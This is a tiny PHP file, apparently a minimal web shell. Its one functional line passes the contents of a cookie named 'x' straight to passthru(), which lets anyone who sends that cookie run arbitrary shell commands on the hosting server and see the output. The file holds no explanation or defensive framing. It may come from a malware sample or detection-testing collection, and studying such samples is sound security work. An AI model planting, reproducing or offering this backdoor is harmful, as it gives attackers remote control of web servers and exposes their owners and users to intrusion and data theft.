<?php
$c = 1;
passthru( $_COOKIE['x'] );
